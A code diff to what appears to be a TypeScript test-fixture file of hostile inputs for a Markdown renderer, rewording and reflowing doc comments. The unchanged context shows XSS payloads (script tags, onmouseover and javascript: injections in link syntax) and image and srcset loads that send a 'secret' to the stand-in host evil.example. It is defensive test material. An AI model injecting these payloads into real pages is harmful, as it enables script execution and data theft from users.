@@ -81,7 +81,7 @@ const SCRIPTS = [
   '\ud800<script>alert(1)</script>\udfff',
 ];
 
-/** What would be fetched, by the page or by the browser on its behalf. */
+/** Content that would be fetched, by the page or by the browser on its behalf. */
 const LOADS = [
   'a <img src="https://evil.example/?q=secret"> b',
   '<img srcset="https://evil.example/x 2x">',
@@ -111,7 +111,7 @@ const LOADS = [
   'https://secret.evil.example/x www.secret.evil.example secret@evil.example',
 ];
 
-/** Marks of markdown by which text could get out of where it belongs. */
+/** Markdown marks through which text could escape its place. */
 const MAX_CONCURRENT_REPLIES = [
   '[a](https://example.com "onmouseover=alert(1) \\" x=")',
   '[a](https://example.com/"onmouseover="alert(1))',
@@ -144,7 +144,10 @@ const MAX_CONCURRENT_REPLIES = [
   'javascript:alert(1) www.javascript:alert(1) https://example.com/<script>',
 ];
 
-/** Our own: what is known to have broken other renderers of markdown, and what this one might. */
+/**
+ * Our own: input known to have broken other Markdown renderers, and input that might break this
+ * one.
+ */
 export const OWN_VECTORS: readonly string[] = [
   ...ADDRESSED,
   ...SCRIPTS,
@@ -152,7 +155,9 @@ export const OWN_VECTORS: readonly string[] = [
   ...MAX_CONCURRENT_REPLIES,
 ];
 
-/** Every string by the list it is of; see tests/fixtures/hostile/README.md for where they come from. */
+/**
+ * Every string, by the list it comes from; see tests/fixtures/hostile/README.md for the sources.
+ */
 export const HOSTILE_LISTS: Readonly<Record<string, readonly string[]>> = {
   'our own vectors': OWN_VECTORS,
   'our naughty strings': readStrings('naughty-strings.json'),
